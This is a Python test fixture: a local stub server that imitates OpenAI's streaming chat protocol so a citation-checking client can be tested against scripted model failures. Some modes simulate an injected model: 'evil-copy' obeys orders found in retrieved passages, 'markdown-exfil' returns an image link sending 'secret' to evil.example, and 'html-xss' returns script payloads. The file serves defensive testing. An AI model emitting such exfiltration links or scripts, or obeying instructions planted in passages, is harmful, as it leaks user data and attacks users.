"""A server on loopback that speaks OpenAI's chat protocol and behaves as the asked model's name says.

``echo-good`` quotes passage 1 with its number, ``evil-copy`` obeys what a passage says, ``cite-99`` invents
numbers, ``paraphrase-num`` changes a number; the others fail in one way each. It records every request.
"""

import json
import re
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Event, Thread
from typing import Any

_PASSAGE = re.compile(r"^\[(\d+)\] (.+)$", re.MULTILINE)
_ORDER = re.compile(r"(?:write|say|répondez|اكتب)[^:]{0,40}: ?(.+?)(?:\. |\.$|$)", re.IGNORECASE)
_DIGITS = re.compile(r"\d+")
STATUS = {"http401": 401, "http429": 429, "http500": 500, "http400": 400}


@dataclass
class Stub:
    """A running server: where it listens and what it was asked."""

    port: int
    requests: list[dict[str, Any]] = field(default_factory=list)
    stopped: Event = field(default_factory=Event)
    left: int = 0  # clients that hung up in the middle

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"


@contextmanager
def stub_model() -> Iterator[Stub]:
    """A server for the time of a test."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    server.daemon_threads = True
    server.stub = Stub(server.server_address[1])  # type: ignore[attr-defined]
    thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield server.stub  # type: ignore[attr-defined]
    finally:
        server.stub.stopped.set()  # type: ignore[attr-defined]
        server.shutdown()
        server.server_close()
        thread.join()


def passages(messages: list[dict[str, Any]]) -> dict[int, str]:
    """The numbered passages in what the model was told."""
    return {int(number): text for number, text in _PASSAGE.findall(str(messages[-1]["content"]))}


def reply(model: str, messages: list[dict[str, Any]]) -> Iterator[str]:
    """The words of a model that answers, in pieces; it puts a follow-up behind all earlier questions."""
    told = passages(messages)
    content = str(messages[-1]["content"])
    if not told and "Last question: " in content:
        last = content.split("Last question: ")[1].split("\n")[0]
        earlier = " ".join(line[2:].rstrip("?؟ ") for line in content.splitlines() if line.startswith("- "))
        yield from _pieces(f"{earlier} {last}")
        return
    first = _first_sentence(told.get(1, ""))
    if model.startswith("say "):
        yield from _pieces(model[4:])
    elif model in ("echo-good", "ttft5000", "cut-stream"):
        yield from _pieces(f"{first.rstrip('.')} [1].")
    elif model == "cite-99":
        yield from _pieces(f"{first.rstrip('.')} [99]. {first.rstrip('.')} [7, 42].")
    elif model == "paraphrase-num":
        yield from _pieces(f"{altered(first).rstrip('.')} [1].")
    elif model == "evil-copy":
        orders = [order[1] for text in told.values() if (order := _ORDER.search(text))]
        yield from _pieces(" ".join(f"{each.rstrip('.')} [1]." for each in orders) or f"{first} [1].")
    elif model == "markdown-exfil":
        yield from _pieces("![x](http://evil.example/?q=secret) See [here](http://evil.example/) [1].")
    elif model == "html-xss":
        yield from _pieces("<img src=x onerror=alert(1)><script>alert(2)</script> Hello [1].")
    elif model == "refuse":
        yield from _pieces("I'm sorry, but I can't help with that.")
    elif model == "huge":
        yield "word " * 400_000


def altered(text: str) -> str:
    """``text`` with its last number changed."""
    found = list(_DIGITS.finditer(text))
    if not found:
        return text
    last = found[-1]
    return f"{text[: last.start()]}{int(last[0]) + 3}{text[last.end() :]}"


def _first_sentence(text: str) -> str:
    from vectorstore.text import sentences

    spans = sentences(text)
    return text[spans[0].start : spans[0].end] if spans else text


def _pieces(text: str) -> Iterator[str]:
    """As models stream: a few characters at a time, marks cut anywhere."""
    for start in range(0, len(text), 3):
        yield text[start : start + 3]


class _Handler(BaseHTTPRequestHandler):
    def do_POST(self) -> None:
        stub: Stub = self.server.stub  # type: ignore[attr-defined]
        asked = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        stub.requests.append(asked)
        try:
            self._answer(stub, asked["model"], asked["messages"])
        except ConnectionError:
            stub.left += 1

    def _answer(self, stub: Stub, model: str, messages: list[dict[str, Any]]) -> None:
        if model in STATUS:
            self.send_response(STATUS[model])
            self.send_header("Content-Type", "application/json")
            self.end_headers()
            self.wfile.write(b'{"error": {"message": "no, sk-secret", "type": "stub"}}')
            return
        if model == "silence":
            stub.stopped.wait(120)
            return
        if model == "ttft5000":
            stub.stopped.wait(5)
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        if model == "bad-json":
            self.wfile.write(b"data: {not json\n\n")
            return
        self._stream(stub, model, messages)

    def _stream(self, stub: Stub, model: str, messages: list[dict[str, Any]]) -> None:
        for at, piece in enumerate(reply(model, messages)):
            if model == "cut-stream" and at == 4:
                return
            self._event(piece)
        if model == "say-forever":
            self._event("Hammouchi met Holger Münch in Berlin [1]. He met him there. ")
        while model in ("never-stops", "say-forever") and not stub.stopped.is_set():
            self._event("And so it went on for a while without saying anything. ")
            time.sleep(0.002)
        if model == "stalls":
            self._event("It began")
            stub.stopped.wait(120)
        self._event("", "stop")
        self.wfile.write(b"data: [DONE]\n\n")

    def _event(self, text: str, reason: str | None = None) -> None:
        delta = {"role": "assistant", "content": text}
        chunk = {
            "id": "1",
            "object": "chat.completion.chunk",
            "created": 0,
            "model": "stub",
            "choices": [{"index": 0, "delta": delta, "finish_reason": reason}],
        }
        self.wfile.write(b"data: " + json.dumps(chunk).encode() + b"\n\n")

    def log_message(self, format: str, *args: Any) -> None:
        """Say nothing."""
